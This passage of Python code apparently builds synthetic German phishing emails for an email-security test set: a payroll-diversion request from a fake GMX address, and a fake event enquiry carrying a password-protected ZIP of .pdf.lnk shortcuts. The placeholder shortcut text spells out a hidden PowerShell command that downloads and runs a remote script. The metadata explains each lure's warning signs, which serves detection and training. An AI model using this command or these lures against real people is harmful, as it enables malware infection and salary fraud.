    tp = B.text_part(text, 'plain', 'UTF-8', 'quoted-printable', upper_charset=True)
    html = ('<html><head></head><body><div style="font-family: Verdana;font-size: 12.0px;"><div>%s</div></div></body></html>' %
            '</div>\n<div>'.join(B.esc(l) if l.strip() else '&nbsp;' for l in text.split('\n')))
    hp = B.html_part(html, 'UTF-8', 'quoted-printable', upper_charset=True)
    bnd = 'abmob-' + m.guid()
    body = Multi([('Content-Type', 'multipart/alternative; boundary=%s' % bnd)], [hp], bnd)
    body = Multi([('Content-Type', 'multipart/alternative; boundary=%s' % bnd)], [tp, hp], bnd)
    t1 = m.later(when, 0, 1)
    host = 'mout.gmx.net'
    ip = '212.227.17.%d' % m.pick([20, 21, 22])
    m.connect(host, host, ip, 'jan.petersen.hh@gmx.de', 'anja.schaefer@example.com', m.later(t1, 1, 2))
    m.dmarc = ('pass', 'none', 'gmx.de')
    h = []
    h.append(('DKIM-Signature', m.dkim('gmx.de', 's31663417', 'X-UI-Sender-Class:MIME-Version:Message-ID:From:To:Subject:Date:Content-Type:Content-Transfer-Encoding:cc:content-transfer-encoding:content-type:date:from:message-id:mime-version:reply-to:subject:to', t=epoch(when), i='jan.petersen.hh@gmx.de')))
    h.append(('X-UI-Sender-Class', '01bb95c1-4bf8-414a-932a-4f6e2808ef9c'))
    h.append(('Received', 'from [91.64.%d.%d] ([91.64.%d.%d]) by web-mail.gmx.net\n (3c-app-gmx-bs%02d.server.lan [172.19.170.%d]) (via HTTP); %s' % (
        m.between(1, 250), m.between(1, 250), m.between(1, 250), m.between(1, 250), m.between(1, 80), m.between(50, 150), d_std(when))))
    h.append(('@MIME', None))
    h.append(('MIME-Version', '1.0'))
    h.append(('Message-ID', '<trinity-%s-%d%03d@3c-app-gmx-bs%02d>' % (m.guid(), epoch(when), m.between(0, 999), m.between(1, 80))))
    h.append(('From', 'Jan Petersen <jan.petersen.hh@gmx.de>'))
    h.append(('To', addr('Anja Schäfer', 'anja.schaefer@example.com', 'UTF-8', 'Q')))
    h.append(('Subject', 'Neue Bankverbindung Gehalt'))
    h.append(('Importance', 'normal'))
    h.append(('Sensitivity', 'Normal'))
    h.append(('Date', d_std(when)))
    h.append(('X-Priority', '3'))
    h.append(('X-Provags-ID', 'V03:K1:' + m.b64(60)))
    h.append(('X-Spam-Flag', 'NO'))
    h.append(('UI-OutboundReport', 'notjunk:1;M01:P0:' + m.b64(40)))
    m.headers = h
    m.body = body
    m.meta.update(
        what='Payroll diversion: a "Jan Petersen" (production manager) writes from a GMX address asking HR to switch his salary to a new DKB account before the November payroll run.',
        why='The colleague\'s private address is not on file; late-evening webmail message from a fresh GMX account, reason why he cannot use company mail, request to confirm by reply; bank-detail changes for salary require the signed HR form/portal, not an e-mail.')


@msg('attack', '08', 'de', 'anfrage-firmenevent-passwort-zip-lnk')
def a08(m):
    when = local('DE', 2026, 10, 14, 9, 5, 18)
    pw = 'Event2027'
    lnk = ('[InternetShortcut placeholder]\nThis inert text stands in for a Windows shortcut (.lnk) that would start\n'
           'C:\\Windows\\System32\\conhost.exe --headless powershell -w h -ep bypass -c "iwr hxxps://cdn-eventbrief.com/b/2027.ps1|iex"\n'
           'Icon: %SystemRoot%\\System32\\imageres.dll,-102 (PDF-like)\n').encode('utf-8')
    zipb = archive.make_zip_encrypted([('Anfrage_Jubilaeum_2027/Briefing_Jubilaeumsfeier_2027.pdf.lnk', lnk, (2026, 10, 14, 8, 51, 10)),
                                       ('Anfrage_Jubilaeum_2027/Budgetrahmen_und_Ablauf.pdf.lnk', lnk, (2026, 10, 14, 8, 51, 12))], pw, m.rng)
    text = """Sehr geehrte Frau Hartmann,

wir planen für Juni 2027 das 100-jährige Firmenjubiläum eines unserer Kunden aus dem Maschinenbau (ca. 2.500 Gäste, Abendveranstaltung mit Live-Act und anschließender Party) und sind über Ihre Referenzen im Bereich Corporate Events auf Sie aufmerksam geworden.

Im Anhang finden Sie das Briefing mit Budgetrahmen, Wunschterminen und den favorisierten Locations in Hamburg und Hannover. Da die Unterlagen vertrauliche Kundendaten enthalten, haben wir das Archiv mit einem Kennwort geschützt.

Kennwort: %s

Wir würden uns über ein erstes Konzept mit Kostenschätzung bis Ende Oktober freuen. Für Rückfragen stehe ich Ihnen gerne zur Verfügung.

Mit freundlichen Grüßen

Vanessa Roth
Senior Projektmanagerin

TK Eventkonzepte GmbH
Leopoldstraße 204 · 80804 München
Tel. +49 89 2154 7730
www.tk-eventkonzepte.de""" % pw
    tp = B.text_part(text, 'plain', 'iso-8859-15', 'quoted-printable')
    html = B.simple_html(text, 'iso-8859-15', 'Calibri, Arial, sans-serif', '11pt')
    hp = B.html_part(html, 'iso-8859-15', 'quoted-printable')
    b1 = '=_' + m.hex(32)
    alt = Multi([('Content-Type', 'multipart/alternative;\n boundary="%s"' % b1)], [tp, hp], b1)
    att = B.attachment(zipb, 'application/zip', 'Anfrage_Jubilaeum_2027.zip', 'plain')
    b2 = '=_' + m.hex(32)
    body = Multi([('Content-Type', 'multipart/mixed;\n boundary="%s"' % b2)], [alt, att], b2)
    host = 'dd%d.kasserver.com' % m.between(10000, 99999)
    ip = '85.13.%d.%d' % (m.between(128, 167), m.between(2, 250))
    t1 = m.later(when, 0, 2)
    m.connect(host, host, ip, 'v.roth@tk-eventkonzepte.de', 'nina.hartmann@examplegroup.eu', m.later(t1, 1, 3))
    m.dmarc = ('pass', 'none', 'tk-eventkonzepte.de')
    h = []
    h.append(('DKIM-Signature', m.dkim('tk-eventkonzepte.de', 'kas202409191028', 'Date:From:To:Subject:Message-ID:MIME-Version:Content-Type', t=epoch(t1))))
    h.append(('Received', 'from webmail.all-inkl.com (p%s.dip0.t-ipconnect.de [%s])\n\tby %s (Postfix) with ESMTPSA id %s\n\tfor <nina.hartmann@examplegroup.eu>; %s' % (
        m.hex(8), '193.32.%d.%d' % (m.between(100, 130), m.between(2, 250)), host, m.short_qid(), d_postfix(t1))))
    h.append(('@MIME', None))
    h.append(('MIME-Version', '1.0'))
    h.append(('Date', d_std(when)))
    h.append(('From', 'Vanessa Roth <v.roth@tk-eventkonzepte.de>'))
    h.append(('To', 'Nina Hartmann <nina.hartmann@examplegroup.eu>'))
    h.append(('Subject', hdr_text('Anfrage Firmenjubiläum Juni 2027 - ca. 2.500 Gäste', 'iso-8859-15', 'Q')))
    h.append(('Organization', 'TK Eventkonzepte GmbH'))
    h.append(('Message-ID', '<%s@tk-eventkonzepte.de>' % m.hex(32)))
    h.append(('X-Sender', 'v.roth@tk-eventkonzepte.de'))
    h.append(('User-Agent', 'Roundcube Webmail/1.6.6'))
    m.headers = h
    m.body = body
    m.meta['passwords'] = [pw]
    m.facts['phone'] = ['+49 89 2154 7730']
    m.meta.update(
        what='Malware loader as a fake corporate-event enquiry: password-protected ZIP (password in the mail) containing two .pdf.lnk shortcuts that would run a PowerShell download cradle (inert placeholders).',
        why='Sent through the compromised webmail of a small agency on shared hosting; the password defeats attachment scanning; ZIP holds only .lnk files disguised as PDFs; a plausible high-value sales lead is the hook.')
